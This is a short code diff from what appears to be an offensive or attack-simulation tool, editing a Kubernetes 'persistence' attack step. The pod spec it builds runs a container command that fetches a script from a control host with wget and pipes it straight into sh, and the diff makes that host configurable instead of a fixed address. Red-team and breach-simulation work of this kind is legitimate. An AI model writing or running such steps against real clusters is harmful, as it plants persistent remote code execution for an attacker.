@@ -43,7 +43,7 @@ export const persistence: AttackStep = {
       name,
     });
     const spec = {
-      containers: [{ name, image: IMAGE, command: ['sh', '-c', 'wget -qO- http://203.0.113.9/c | sh'] }],
+      containers: [{ name, image: IMAGE, command: ['sh', '-c', `wget -qO- http://${plan.control.ip}/c | sh`] }],
       serviceAccountName: name,
       restartPolicy: 'Never',
     };
